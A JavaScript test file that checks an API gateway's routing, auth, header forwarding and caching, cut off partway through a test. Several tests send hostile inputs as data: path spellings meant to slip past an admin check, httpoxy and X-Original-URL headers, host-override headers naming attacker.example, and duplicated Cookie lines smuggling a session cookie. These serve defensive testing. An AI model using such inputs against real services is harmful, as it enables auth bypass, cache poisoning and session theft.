// The API gateway (src/gateway): configured routes to a real local origin, streamed proxying, JWT auth against a
// JWKS in KV, the WAF, the edge cache (policies, HIT/MISS/STALE, stale-while-revalidate, stale-if-error, purge by
// tag, request coalescing) and W3C trace propagation.
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { createHash, sign } from "node:crypto";
import { request as httpRequest } from "node:http";
import { startOrigin, startWebSocketOrigin, delay } from "./support/origin.mjs";
import WebSocket from "ws";
import { connect } from "node:net";
import { join } from "node:path";
import { unstable_getMiniflareWorkerOptions } from "wrangler";
import { ROOT, age, chunkedBody, onOneConnection, standInKv, startWorker, until, untilWaiting } from "./support/worker.mjs";
import { b64url, json64, jwksOf, makeKeys, signWith, token } from "./support/gateway-tokens.mjs";
import { DEMO_USERS, hashPassword, seed } from "../scripts/seed.mjs";
import { generateSigningJwk } from "../scripts/dev-key.mjs";

let origin;
let downOrigin;
let wsOrigin;
let worker;
let keys;
let kv;
// Small, so the large-answer test stays small; the default is 8 MiB.
const CACHE_MAX_BODY_BYTES = 64 * 1024;
const SESSION_KEY = generateSigningJwk("gateway-test-issuer");
const ALICE = DEMO_USERS.find((u) => u.email === "alice@example.com");

const policies = {
  "short-sie": { ttl: 1, stale_while_revalidate: 0, stale_if_error: 3600, shared: true, cache_control: "public, max-age=1", surrogate_control: "max-age=1" },
  "short-swr": { ttl: 1, stale_while_revalidate: 3600, stale_if_error: 0, shared: true, cache_control: "public, max-age=1", surrogate_control: "max-age=1, stale-while-revalidate=3600" },
  // Stores no redirect or absence.
  "short-sie-no-negative": { ttl: 1, stale_while_revalidate: 0, stale_if_error: 3600, shared: true, cache_control: "public, max-age=1", surrogate_control: "max-age=1", negative_ttl: 0 },
  "short-swr-no-negative": { ttl: 1, stale_while_revalidate: 3600, stale_if_error: 0, shared: true, cache_control: "public, max-age=1", surrogate_control: "max-age=1", negative_ttl: 0 },
};

const MAX_BODY_BYTES = 4 * 1024 * 1024;

function routes() {
  const up = origin.url;
  return [
    { name: "open", path: "/gw/open", methods: ["GET", "POST", "PUT", "DELETE"], upstream: up, strip_prefix: "/gw", timeout_ms: 2000, retries: 1 },
    { name: "item", path: "/gw/open/items/:id", methods: ["GET"], upstream: `${up}/v2`, strip_prefix: "/gw/open" },
    // An upstream with a base path, its prefix stripped whole: `/gw/based` is the origin's `/v2`.
    { name: "based", path: "/gw/based", upstream: `${up}/v2`, strip_prefix: "/gw/based" },
    { name: "slow", path: "/gw/slow", upstream: up, timeout_ms: 300 },
    { name: "slow-retried", path: "/gw/retried", methods: ["GET", "PUT"], upstream: up, timeout_ms: 300, retries: 1 },
    { name: "upload", path: "/gw/upload", methods: ["PUT"], upstream: up, timeout_ms: 1000 },
    { name: "nowhere", path: "/gw/nowhere", methods: ["GET", "PUT"], upstream: "http://127.0.0.1:9", timeout_ms: 2000 },
    // The same unreachable origin, its bodies unread by the WAF (streamed as they come).
    { name: "nowhere-raw", path: "/gw/nowhere/raw", methods: ["PUT"], upstream: "http://127.0.0.1:9", timeout_ms: 2000, waf_body: "off" },
    { name: "secure", path: "/gw/secure", methods: ["GET", "POST"], upstream: up, auth: "jwt" },
    { name: "admin", path: "/gw/secure/admin", upstream: up, auth: "jwt", permissions: ["admin"] },
    { name: "cached", path: "/gw/cached", upstream: up, cache: "api-public" },
    { name: "static", path: "/gw/static", upstream: up, cache: "static-immutable" },
    // Writes to a cached URL: through its cached route, and through a route of their own beside it.
    { name: "items", path: "/gw/items", methods: ["GET", "PUT", "POST", "DELETE"], upstream: up, cache: "api-public" },
    { name: "cached-notes", path: "/gw/cached/notes", methods: ["PUT"], upstream: up },
    { name: "html", path: "/gw/html", upstream: up, cache: "html-dynamic" },
    { name: "personal", path: "/gw/me", upstream: up, auth: "jwt", cache: "api-personalized" },
    // Shared among those signed in: one copy for every reader, told to clients as a per-user answer.
    { name: "catalog", path: "/gw/catalog", upstream: up, auth: "jwt", cache: "api-public" },
    // Per user, the user from a bearer token or else the session cookie.
    { name: "personal-either", path: "/gw/yours", upstream: up, auth: "jwt_or_session", cache: "api-personalized" },
    { name: "sie", path: "/gw/sie", upstream: up, cache: "short-sie", timeout_ms: 300 },
    { name: "sie-down", path: "/gw/sie-down", upstream: downOrigin.url, cache: "short-sie", timeout_ms: 500 },
    // The same policy with the default timeout: for tests whose origin holds its answer until every request arrived.
    { name: "sie-patient", path: "/gw/sie-patient", upstream: up, cache: "short-sie" },
    { name: "swr", path: "/gw/swr", upstream: up, cache: "short-swr" },
    { name: "swr-no-negative", path: "/gw/swr-no-negative", upstream: up, cache: "short-swr-no-negative" },
    { name: "sie-no-negative", path: "/gw/sie-no-negative", upstream: up, cache: "short-sie-no-negative" },
    { name: "session", path: "/gw/session", upstream: up, auth: "session" },
    { name: "either", path: "/gw/either", upstream: up, auth: "jwt_or_session" },
    { name: "limited", path: "/gw/limited", upstream: up, auth: "jwt", rate_limit: "gw-user" },
    { name: "limited-open", path: "/gw/limited-open", upstream: up, auth: "jwt", rate_limit: "gw-user-open" },
    // A limit per API key alone is escaped by presenting a new key each time; with a per-IP limit beside it, not.
    { name: "keyed", path: "/gw/keyed", upstream: up, rate_limit: ["gw-ip", "gw-key"] },
    // Bodies checked in a mode of the route's own.
    { name: "raw-upload", path: "/gw/raw", methods: ["PUT"], upstream: up, waf_body: "off" },
    { name: "raw-quick", path: "/gw/raw-quick", methods: ["PUT"], upstream: up, waf_body: "off", timeout_ms: 1000 },
    { name: "watched", path: "/gw/watched", methods: ["POST"], upstream: up, waf_body: "log" },
    // Under the off route, one whose bodies are checked in the global mode.
    { name: "raw-meta", path: "/gw/raw/meta", methods: ["PUT"], upstream: up },
    // WebSockets proxied, with the checks of a GET; the timeout covers the handshake alone.
    { name: "ws", path: "/gw/ws", upstream: wsOrigin.url, strip_prefix: "/gw/ws", auth: "jwt", rate_limit: "gw-ws", websocket: true, timeout_ms: 500 },
    { name: "ws-down", path: "/gw/ws-down", upstream: "http://127.0.0.1:9", websocket: true, timeout_ms: 2000 },
    // Signed in by the session cookie, which a browser sends on a handshake any page opens (no CORS check).
    { name: "ws-session", path: "/gw/ws-session", upstream: wsOrigin.url, strip_prefix: "/gw/ws-session", auth: "session", websocket: true },
  ];
}

before(async () => {
  origin = await startOrigin();
  downOrigin = await startOrigin();
  wsOrigin = await startWebSocketOrigin();
  keys = makeKeys();
  worker = await startWorker({
    vars: {
      GATEWAY_ROUTES: routes(),
      GATEWAY_CACHE_POLICIES: policies,
      GATEWAY_JWKS_TTL_SECONDS: 1,
      RATE_LIMIT_POLICIES: {
        "gw-user": { limit: 3, window: 60, key: "user", shards: 2, failure: "closed" },
        "gw-user-open": { limit: 3, window: 60, key: "user", shards: 2, failure: "open" },
        "gw-key": { limit: 2, window: 60, key: "api_key" },
        "gw-ip": { limit: 4, window: 60, key: "ip" },
        "gw-ws": { limit: 3, window: 60, key: "user" },
      },
      AUTH_SIGNING_KEY: JSON.stringify(SESSION_KEY),
      GATEWAY_WAF: { max_body_bytes: MAX_BODY_BYTES },
      GATEWAY_CACHE_MAX_BODY_BYTES: CACHE_MAX_BODY_BYTES,
      // Short, so the slow-body test stays short; the default is 10 s.
      GATEWAY_CACHE_FILL_BODY_MS: 600,
      GATEWAY_CORS_ORIGINS: ["https://app.example"],
      // Longer than any test: a refresh the origin failed holds its key's next refresh off for the rest of the run
      // (tests use keys of their own), so the outage test counts refreshes exactly; the default is 5 s.
      GATEWAY_REFRESH_HOLD_MS: 300_000,
    },
  });
  kv = await worker.mf.getKVNamespace("CONFIG_KV");
  await kv.put("jwks", JSON.stringify(jwksOf(keys)));
  // Demo users and the session issuer's public key, added to the same JWKS: the issuer's access tokens must pass.
  await seed({ CONFIG_KV: kv, DB: await worker.mf.getD1Database("DB"), AUTH_SIGNING_KEY: JSON.stringify(SESSION_KEY) });
});
after(async () => {
  await worker?.stop();
  await origin?.stop();
  await downOrigin?.stop();
  await wsOrigin?.stop();
});

const bearer = (t) => ({ authorization: `Bearer ${t}` });

/**
 * One request over node:http: { status, headers (a Headers), body (text), bytes (as received, not decoded) }. On a
 * connection of its own (agent: false): node's keep-alive pool handed it a connection workerd had closed once
 * (ECONNRESET, "socket hang up", in a full run), which worker.fetch retries and this would not.
 */
function rawRequest(path, { method = "GET", headers = {}, body } = {}) {
  return new Promise((resolveResponse, reject) => {
    const req = httpRequest(new URL(path, worker.url), { method, headers, agent: false }, (res) => {
      const chunks = [];
      res.on("data", (c) => chunks.push(c));
      res.on("end", () => {
        const h = new Headers();
        for (const [k, v] of Object.entries(res.headers)) h.set(k, Array.isArray(v) ? v.join(", ") : v);
        const bytes = Buffer.concat(chunks);
        resolveResponse({ status: res.statusCode, headers: h, body: bytes.toString(), bytes });
      });
    });
    req.on("error", reject);
    req.end(body);
  });
}

/**
 * A chunked upload over node:http (no Content-Length): `total` bytes of `fill` in 64 KiB writes, each after the
 * last drained. Resolves with { status, headers, body } once the answer is read; writes failing after the answer
 * came (the Worker stopped reading) end the upload.
 */
function chunkedUpload(path, total, { fill = "u", base = worker.url } = {}) {
  const chunk = Buffer.alloc(64 * 1024, fill);
  return new Promise((resolveResponse, reject) => {
    let answered = false;
    // A connection of its own (agent: false): one the Worker drops mid-upload is never reused from a keep-alive pool.
    const req = httpRequest(new URL(path, base), { method: "POST", agent: false, headers: { "content-type": "application/octet-stream" } }, (res) => {
      answered = true;
      const chunks = [];
      res.on("data", (c) => chunks.push(c));
      res.on("end", () => {
        req.destroy();
        resolveResponse({ status: res.statusCode, headers: res.headers, body: Buffer.concat(chunks).toString() });
      });
    });
    req.on("error", (e) => (answered ? null : reject(e)));
    let sent = 0;
    const pump = () => {
      while (sent < total && !answered && !req.destroyed) {
        const part = chunk.subarray(0, Math.min(chunk.length, total - sent));
        sent += part.length;
        if (!req.write(part)) return req.once("drain", pump);
      }
      if (sent >= total) req.end();
    };
    pump();
  });
}

/** Sends `body` chunked (no Content-Length) with `Content-Encoding: coding`; resolves to the Worker's answer. */
function codedUpload(path, body, coding) {
  return new Promise((resolveResponse, reject) => {
    const req = httpRequest(new URL(path, worker.url), { method: "POST", agent: false, headers: { "content-type": "application/json", "content-encoding": coding } }, (res) => {
      const chunks = [];
      res.on("data", (c) => chunks.push(c));
      res.on("end", () => {
        req.destroy();
        resolveResponse({ status: res.statusCode, headers: res.headers, body: Buffer.concat(chunks).toString() });
      });
    });
    req.on("error", reject);
    for (let at = 0; at < body.length; at += 16 * 1024) req.write(body.subarray(at, at + 16 * 1024));
    req.end();
  });
}

async function login(user = ALICE) {
  const r = await worker.fetch("/auth/login", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ email: user.email, password: user.password }),
  });
  assert.equal(r.status, 200, "demo login");
  const { access_token: accessToken } = await r.json();
  return { accessToken, cookie: /__Host-edgekit_session=[^;]*/.exec(r.headers.get("set-cookie"))[0] };
}
const lastRequest = () => origin.requests.at(-1);

/** Sends `forged` and `kept` headers to the origin through an open route: none of `forged` reaches it, each of
 * `kept` arrives as sent. Gives the headers the origin saw. */
async function forwardsOnly(forged, kept) {
  origin.reset();
  const response = await rawRequest("/gw/open/echo", { headers: { ...forged, ...kept } });
  assert.equal(response.status, 200);
  const seen = lastRequest().headers;
  for (const name of Object.keys(forged)) {
    assert.equal(seen[name], undefined, name);
  }
  for (const [name, value] of Object.entries(kept)) {
    assert.equal(seen[name], value, `${name} passes as sent`);
  }
  return seen;
}
/** An origin answer that starts at once and streams for 900 ms (three chunks 300 ms apart, then "last"). */
async function streamsFor900ms(req, body, res) {
  res.writeHead(200, { "content-type": "text/plain" });
  for (let i = 0; i < 3; i++) {
    res.write(`chunk-${i};`);
    await delay(300);
  }
  res.end("last");
}

/** `doc` plus the keys already published that it does not name (the session issuer's, which seed() added), so a
 * test that rewrites the JWKS leaves the tests after it the keys they rely on. */
async function keepingOthers(doc) {
  const current = JSON.parse((await kv.get("jwks")) ?? '{"keys":[]}');
  const named = new Set(doc.keys.map((k) => k.kid));
  return { ...doc, keys: [...doc.keys, ...current.keys.filter((k) => !named.has(k.kid))] };
}

/** A Worker with `vars` whose CONFIG_KV is a stand-in (`standInKv`) answering `get` with the function `get` (JS source). */
const overStandInKv = (vars, get) => startWorker({ vars, ...standInKv("CONFIG_KV", { get }) });

const describeOf = (response) => /error_description="([^"]*)"/.exec(response.headers.get("www-authenticate") ?? "")?.[1];

describe("route table and proxy", () => {
  test("unknown paths answer JSON 404, known paths with the wrong method 405 with Allow", async () => {
    const nf = await worker.fetch("/not/a/gateway/path");
    assert.equal(nf.status, 404);
    assert.equal((await nf.json()).error.code, "not_found");
    const na = await worker.fetch("/gw/open/items/3", { method: "PATCH" });
    assert.equal(na.status, 405);
    assert.equal(na.headers.get("allow"), "GET, HEAD, POST, PUT, DELETE", "the item route's and the open route's, which checks alike");
    assert.equal((await na.json()).error.code, "method_not_allowed");
    // A method workers-rs does not know must not pass for GET (it did: routed, cached and forwarded as a GET).
    origin.reset();
    const odd = await worker.fetch("/gw/open/items/3", { method: "PROPFIND" });
    assert.equal(odd.status, 405);
    assert.equal(odd.headers.get("allow"), "GET, HEAD, POST, PUT, DELETE");
    assert.match((await odd.json()).error.message, /PROPFIND/);
    const app = await worker.fetch("/health", { method: "PURGE" });
    assert.equal(app.status, 405, "an app route too");
    await app.arrayBuffer();
    // A method the admin route does not take is not served by the broader /gw/secure and its weaker checks.
    const reader = bearer(token(keys, "ed1", { permissions: ["read"] }));
    const admin = await worker.fetch("/gw/secure/admin/users", { method: "POST", headers: reader, body: "x" });
    assert.equal(admin.status, 405);
    assert.equal(admin.headers.get("allow"), "GET, HEAD");
    await admin.arrayBuffer();
    assert.equal(origin.requests.length, 0, "nothing reached the origin");
  });

  test("the most specific route wins, its prefix is stripped and the query kept", async () => {
    origin.reset();
    const a = await worker.fetch("/gw/open/items/42?b=2&a=1");
    assert.equal(a.status, 200);
    await a.arrayBuffer();
    assert.equal(lastRequest().url, "/v2/items/42?b=2&a=1", "the item route, not the open prefix");
    const b = await worker.fetch("/gw/open/anything/else");
    await b.arrayBuffer();
    assert.equal(lastRequest().url, "/open/anything/else", "prefix route");
    // Sent as written (a URL object would drop the empty query).
    const { hostname, port } = new URL(worker.url);
    const bare = await new Promise((resolve, reject) => {
      const req = httpRequest({ hostname, port, path: "/gw/open/signed?" }, (res) => res.resume().on("end", () => resolve(res.statusCode)));
      req.on("error", reject).end();
    });
    assert.equal(bare, 200);
    assert.equal(lastRequest().url, "/open/signed?", "a bare ? is the client's request target too");
  });

  test("the route's prefix alone asks the upstream's base as written, with a trailing slash only when the client sent one", async () => {
    // An origin that redirects its base with a slash to the one without (FastAPI's redirect_slashes, Laravel's rule).
    origin.reset();
    origin.handle((req, body, res) => {
      if (req.url.split("?")[0] === "/v2/") {
        res.writeHead(308, { location: "/v2" });
        return res.end();
      }
      res.writeHead(200, { "content-type": "text/plain" });
      res.end(req.url);
    });
    const plain = await worker.fetch("/gw/based?a=1", { redirect: "manual" });
    assert.equal(plain.status, 200, "asked as /v2, not redirected back to itself");
    assert.equal(await plain.text(), "/v2?a=1");
    const slashed = await worker.fetch("/gw/based/", { redirect: "manual" });
    assert.equal(slashed.status, 308);
    assert.equal(slashed.headers.get("location"), "/gw/based", "the origin's redirect, mapped back under the route");
    await slashed.arrayBuffer();
    assert.deepEqual(origin.requests.map((r) => r.url), ["/v2?a=1", "/v2/"]);
    origin.reset();
  });

  test("every spelling of a path meets the route, auth and prefix strip of its plain spelling", async () => {
    // /gw/secure/admin needs the admin permission; /gw/secure (any token) must not serve it under another spelling.
    const reader = bearer(token(keys, "ed1", { permissions: ["read"] }));
    for (const path of ["/gw/secure/admin", "/gw/secure/%61dmin", "/gw/secure/%61%64%6D%69%6E/x", "/gw/secure//admin"]) {
      const r = await worker.fetch(path, { headers: reader });
      assert.equal(r.status, 403, path);
      assert.equal((await r.json()).error.code, "missing_permission", path);
    }
    origin.reset();
    const r = await worker.fetch("/gw//open//%61ny%2Fthing?q=1", {});
    assert.equal(r.status, 200);
    await r.arrayBuffer();
    assert.equal(lastRequest().url, "/open/any%2Fthing?q=1", "the matched path, prefix stripped, reserved escapes kept");
    // A `%` that starts no escape is sent as %25: the escapes decoded after it never make a new one that an origin,
    // decoding once, would read as /gw/secure/admin (served by the admin route, which needs a permission).
    origin.reset();
    const lone = await worker.fetch("/gw/secure/%%36%31dmin", { headers: reader });
    assert.equal(lone.status, 200, "the open prefix route");
    await lone.arrayBuffer();
    assert.equal(lastRequest().url, "/gw/secure/%2561dmin");
    // Spellings an origin may read as /secure/admin (an escaped slash as a separator, a `;` parameter dropped)
    // while they would match /gw/secure: refused, never forwarded.
    origin.reset();
    // So are other letter cases of a route's path: Express, ASP.NET Core and koa-router ignore case.
    for (const path of ["/gw/secure/admin;x=1", "/gw/secure/admin%2F", "/gw/secure/admin%5c", "/gw/secure/ADMIN", "/gw/secure/Admin/x"]) {
      const r = await worker.fetch(path, { headers: reader });
      assert.equal(r.status, 400, path);
      assert.equal((await r.json()).error.code, "ambiguous_path", path);
    }
    const unrouted = await worker.fetch("/gw/secure%2Fadmin", { headers: reader });
    assert.equal(unrouted.status, 404, "as written it meets no route");
    await unrouted.arrayBuffer();
    assert.equal(origin.requests.length, 0);
  });

  test("method, headers and body are forwarded; hop-by-hop and client identity headers are not", async () => {
    origin.reset();
    // node:http rather than fetch: fetch refuses to send a Connection header of the caller's choosing.
    const response = await rawRequest("/gw/open/echo", {
      method: "POST",
      headers: {
        "content-type": "application/json",
        connection: "x-hop-secret",
        "x-hop-secret": "1",
        "x-user-id": "admin",
        "x-user-permissions": "everything",
        "x-custom": "kept",
        "x-request-id": "req-abc-123",
      },
      body: JSON.stringify({ hello: "world" }),
    });
    assert.equal(response.status, 200);
    assert.equal(JSON.parse(response.body).body, '{"hello":"world"}');
    const seen = lastRequest();
    assert.equal(seen.method, "POST");
    assert.equal(seen.headers["x-custom"], "kept");
    assert.equal(seen.headers["x-hop-secret"], undefined, "listed in Connection: hop-by-hop");
    assert.equal(seen.headers["x-user-id"], undefined, "client identity is stripped");
    assert.equal(seen.headers["x-user-permissions"], undefined);
    assert.equal(seen.headers["x-request-id"], "req-abc-123");
    assert.equal(response.headers.get("x-request-id"), "req-abc-123");
    assert.equal(seen.headers["x-forwarded-proto"], "http");
    assert.match(seen.headers["x-forwarded-host"], /^127\.0\.0\.1:\d+$/);
    assert.match(response.headers.get("server-timing"), /edge;dur=\d+/);
    assert.equal(seen.headers["x-forwarded-prefix"], "/gw", "the prefix the origin is mounted under");
  });

  test("Connection cannot take the body's own description, or the gateway's headers, from the origin request", async () => {
    // RFC 9110 §7.6.1: a sender must not list a field meant for every recipient of the content, and a proxy must not
    // let such a listing change the message it forwards. The WAF read this body as gzipped JSON; the origin got the
    // gzip bytes with no Content-Encoding and no Content-Type.
    const { gzipSync, gunzipSync } = await import("node:zlib");
    origin.reset();
    const zipped = gzipSync(JSON.stringify({ hello: "world" }));
    const response = await rawRequest("/gw/open/echo", {
      method: "POST",
      headers: {
        "content-type": "application/json",
        "content-encoding": "gzip",
        "content-language": "en",
        connection: "Content-Encoding, content-type, CONTENT-LANGUAGE, x-hop-secret",
        "x-hop-secret": "1",
      },
      body: zipped,
    });
    assert.equal(response.status, 200);
    const seen = lastRequest();
    assert.equal(seen.headers["content-encoding"], "gzip");
    assert.equal(seen.headers["content-type"], "application/json");
    assert.equal(seen.headers["content-language"], "en");
    assert.equal(gunzipSync(seen.body).toString(), '{"hello":"world"}');
    assert.equal(seen.headers["x-hop-secret"], undefined, "a field of the client's own is still hop-by-hop");
    // The headers the gateway sets are set after the listing is applied: listing them removes only the client's.
    origin.reset();
    const listed = await rawRequest("/gw/secure", {
      headers: {
        ...bearer(token(keys, "ed1", { sub: "user-7", permissions: ["read"] })),
        connection: "x-user-id, x-user-permissions, x-forwarded-for, x-forwarded-host, x-request-id, traceparent",
        "x-user-id": "admin",
        "x-forwarded-for": "10.6.6.6",
      },
    });
    assert.equal(listed.status, 200);
    const asked = lastRequest().headers;
    assert.equal(asked["x-user-id"], "user-7");
    // The client's list was hop-by-hop: removed as received, not appended to; the gateway's names the address seen.
    assert.equal(asked["x-forwarded-for"], "127.0.0.1");
    assert.equal(asked["x-user-permissions"], "read");
    assert.match(asked["x-forwarded-host"], /^127\.0\.0\.1:\d+$/);
    assert.equal(asked["x-request-id"], listed.headers.get("x-request-id"));
    assert.match(asked.traceparent, /^00-[0-9a-f]{32}-[0-9a-f]{16}-0[01]$/);
  });

  test("a tracestate the client's Connection lists is hop-by-hop: it does not reach the origin", async () => {
    // RFC 9110 §7.6.1, as for any other field of the client's: the tracestate was meant for the edge alone. The trace
    // itself is continued (the gateway sets its own traceparent).
    origin.reset();
    const parent = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
    const listed = await rawRequest("/gw/open/echo", {
      headers: { connection: "tracestate", traceparent: parent, tracestate: "congo=t61rcWkgMzE" },
    });
    assert.equal(listed.status, 200);
    const seen = lastRequest().headers;
    assert.match(seen.traceparent, /^00-4bf92f3577b34da6a3ce929d0e0e4736-/);
    assert.equal(seen.tracestate, undefined, "listed in Connection: hop-by-hop");
    origin.reset();
    const unlisted = await rawRequest("/gw/open/echo", { headers: { traceparent: parent, tracestate: "congo=t61rcWkgMzE" } });
    assert.equal(unlisted.status, 200);
    assert.equal(lastRequest().headers.tracestate, "congo=t61rcWkgMzE");
  });

  test("an origin's Connection cannot take its answer's description, caching or cookies from the client or the stored copy", async () => {
    // RFC 9110 §7.6.1: these are meant for every recipient; the gateway reads them itself (an answer setting a
    // cookie or saying no-store is not stored), and then dropped them on the way out: the browser got a page without
    // its type, cookie or no-store, and deflate bytes (which the runtime leaves coded) without their coding.
    const { deflateSync, inflateSync } = await import("node:zlib");
    const text = "<p>hello</p> " + "text ".repeat(50);
    const zipped = deflateSync(text);
    origin.reset();
    origin.handle((req, body, res) => {
      const personal = !req.url.includes("shared");
      res.writeHead(200, {
        connection: "Content-Type, content-encoding, content-language, cache-control, set-cookie, vary, x-origin-hop",
        "content-type": "text/html; charset=utf-8",
        "content-language": "en",
        // Deflate is left coded by the runtime (and such an answer is never stored).
        ...(personal
          ? { "content-encoding": "deflate", "cache-control": "no-store", "set-cookie": "sid=1; Path=/", vary: "Accept-Language" }
          : {}),
        "x-origin-hop": "1",
      });
      res.end(personal ? zipped : text);
    });
    const stamp = Date.now();
    for (const path of ["/gw/open/page", `/gw/cached/page?personal=${stamp}`]) {
      const r = await rawRequest(path, { headers: { "accept-encoding": "deflate" } });
      assert.equal(r.status, 200, path);
      assert.equal(r.headers.get("content-type"), "text/html; charset=utf-8", path);
      assert.equal(r.headers.get("content-encoding"), "deflate", path);
      assert.equal(r.headers.get("content-language"), "en", path);
      assert.equal(r.headers.get("cache-control"), "no-store", path);
      assert.equal(r.headers.get("set-cookie"), "sid=1; Path=/", path);
      assert.equal(r.headers.get("vary"), "Accept-Language", path);
      assert.equal(r.headers.get("x-origin-hop"), null, `${path}: a field of the origin's own is still hop-by-hop`);
      assert.equal(inflateSync(r.bytes).toString(), text, path);
    }
    // A stored copy keeps them too.
    for (const state of ["MISS", "HIT"]) {
      const r = await rawRequest(`/gw/cached/page?shared=${stamp}`);
      assert.equal(r.headers.get("x-cache"), state);
      assert.equal(r.headers.get("content-type"), "text/html; charset=utf-8", state);
      assert.equal(r.headers.get("content-language"), "en", state);
      assert.equal(r.body, text, state);
    }
    origin.reset();
  });

  test("the body's description spelled with _ (Content_Encoding) never reaches the origin: the WAF read the body without it", async () => {
    // A CGI-style server reads `Content_Encoding` as the Content-Encoding variable, as it reads `X_User_Id` (dropped
    // for that reason). Forwarded, an origin inflating by that variable parsed a gzipped body the WAF had screened as
    // plain bytes (no Content-Encoding): the same split as a Connection listing Content-Encoding.
    const { gzipSync } = await import("node:zlib");
    origin.reset();
    const response = await rawRequest("/gw/open/echo", {
      method: "POST",
      headers: {
        "content-type": "application/octet-stream",
        content_encoding: "gzip",
        content_type: "application/json",
        content_language: "en",
      },
      body: gzipSync(JSON.stringify({ hello: "world" })),
    });
    assert.equal(response.status, 200);
    const seen = lastRequest().headers;
    for (const name of ["content_encoding", "content_type", "content_language"]) {
      assert.equal(seen[name], undefined, name);
    }
    assert.equal(seen["content-type"], "application/octet-stream", "the description the WAF read is forwarded");
  });

  test("headers that would name another method or client address, and edgekit's own cookies, never reach the origin", async () => {
    origin.reset();
    const response = await rawRequest("/gw/open/echo", {
      method: "POST",
      headers: {
        "x-http-method-override": "DELETE",
        "x-http-method": "DELETE",
        "x-method-override": "DELETE",
        "true-client-ip": "10.0.0.1",
        "x-client-ip": "10.0.0.1",
        "fastly-client-ip": "10.0.0.1",
        cookie: "theme=dark; __Host-edgekit_session=stolen-if-forwarded; lang=fr",
        tracestate: "congo=t61rcWkgMzE",
        traceparent: "00-4BF92F3577B34DA6A3CE929D0E0E4736-00F067AA0BA902B7-01",
      },
      body: "x",
    });
    assert.equal(response.status, 200);
    const seen = lastRequest().headers;
    for (const name of ["x-http-method-override", "x-http-method", "x-method-override", "true-client-ip", "x-client-ip", "fastly-client-ip"]) {
      assert.equal(seen[name], undefined, name);
    }
    assert.equal(seen.cookie, "theme=dark; lang=fr", "the origin's own cookies pass; the session cookie does not");
    assert.equal(seen.tracestate, undefined, "a tracestate whose traceparent was not continued is dropped");
    const only = await rawRequest("/gw/open/echo", { headers: { cookie: "__Host-edgekit_session=abc" } });
    assert.equal(only.status, 200);
    assert.equal(lastRequest().headers.cookie, undefined, "no Cookie header is left");
    const device = await rawRequest("/gw/open/echo", { headers: { cookie: "__Secure-edgekit_session_device=d; a=1" } });
    assert.equal(device.status, 200);
    assert.equal(lastRequest().headers.cookie, "a=1", "the device cookie, sent alone, is taken out too");
    // Cookie in two fields (HTTP/2 cookie crumbs, RFC 9113 §8.2.3, or a hand-made request): the runtime joins them
    // with ", ", and the session cookie rode through inside the first one's value.
    const { hostname, port } = new URL(worker.url);
    const sock = connect(Number(port), hostname);
    await new Promise((resolve, reject) => sock.once("connect", resolve).once("error", reject));
    sock.on("error", () => {});
    sock.resume();
    sock.write("GET /gw/open/crumbs HTTP/1.1\r\nHost: x\r\nCookie: a=1\r\nCookie: __Host-edgekit_session=stolen-if-forwarded; b=2\r\n" +
      "Cookie: __Secure-edgekit_session_device=d\r\n\r\n");
    const crumbs = await until(() => origin.requests.find((r) => r.path === "/open/crumbs"), { what: "the origin's record of the request" });
    sock.destroy();
    assert.equal(crumbs?.headers.cookie, "a=1; b=2", "the session and device cookies are taken out of every field");
    const traced = await rawRequest("/gw/open/echo", {
      headers: { traceparent: "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", tracestate: "congo=t61rcWkgMzE" },
    });
    assert.equal(traced.status, 200);
    assert.equal(lastRequest().headers.tracestate, "congo=t61rcWkgMzE", "kept with the trace it belongs to");
  });

  test("headers that name a proxy (httpoxy) or another path for the origin (X-Original-URL) never reach it", async () => {
    origin.reset();
    // `Proxy` is HTTP_PROXY to a CGI-style origin, whose HTTP client then sends its own requests through the
    // caller's proxy (httpoxy, CVE-2016-5385); X-Original-URL / X-Rewrite-URL make Symfony, Zend and IIS serve
    // another path than the one this route's checks were applied to (CVE-2018-14773).
    const response = await rawRequest("/gw/open/echo", {
      headers: {
        proxy: "http://attacker.example:8080",
        "x-original-url": "/gw/secure/admin",
        "x-rewrite-url": "/gw/secure/admin",
        x_original_url: "/gw/secure/admin",
        // nginx's auth_request convention: an access service behind the gateway reads them as the request it decides
        // on (a client's own would be judged instead of the request's; Authelia reads both).
        "x-original-uri": "/.well-known/x",
        "x-original-method": "GET",
        "x-custom": "kept",
      },
    });
    assert.equal(response.status, 200);
    const seen = lastRequest().headers;
    for (const name of ["proxy", "x-original-url", "x-rewrite-url", "x_original_url", "x-original-uri", "x-original-method"]) {
      assert.equal(seen[name], undefined, name);
    }
    assert.equal(seen["x-custom"], "kept");
  });

  test("headers that name another host, scheme or base path for the origin's absolute URLs never reach it", async () => {
    origin.reset();
    // Each makes some framework build its links (a password-reset URL, a cached page's asset URLs) on the client's
    // host rather than the request's: X-Host (mod_wsgi's trusted proxy headers), X-Original-Host (Yii 2), X-Scheme
    // (Tornado's xheaders, mod_wsgi), X-Script-Name (mod_wsgi, Flask's ReverseProxied recipe), Front-End-Https (Yii 2,
    // IIS) and X-HTTP-Host-Override, Forwarded and X-Forwarded-Server (the host overrides scanners try first).
    const forged = {
      "x-host": "attacker.example",
      "x-original-host": "attacker.example",
      "x-http-host-override": "attacker.example",
      "x-forwarded-server": "attacker.example",
      forwarded: "host=attacker.example;proto=http",
      "x-scheme": "http",
      "x-https": "off",
      "x-script-name": "//attacker.example",
      "front-end-https": "on",
      x_original_host: "attacker.example",
      // RhodeCode's and Kallithea's https_fixup read X-Url-Scheme; Jetty's ForwardedRequestCustomizer makes a request
      // secure on X-Proxied-Https, Proxy-Ssl-Id or Proxy-Auth-Cert (the last two naming its TLS session and cipher).
      "x-url-scheme": "http",
      "x-proxied-https": "on",
      "proxy-ssl-id": "forged",
      "proxy-auth-cert": "forged",
    };
    const response = await rawRequest("/gw/open/echo", { headers: { ...forged, "x-hostname": "kept" } });
    assert.equal(response.status, 200);
    const seen = lastRequest().headers;
    for (const name of Object.keys(forged)) {
      if (name === "forwarded") continue;
      assert.equal(seen[name], undefined, name);
    }
    assert.ok(!(seen.forwarded ?? "").includes("attacker.example"), `Forwarded is the gateway's own: ${seen.forwarded}`);
    assert.equal(seen["x-hostname"], "kept", "a name that merely starts alike passes");
  });

  test("X-Forwarded-For names the client's address as every other reader does: canonical, an IPv4-mapped one as IPv4, and none that is no address", async () => {
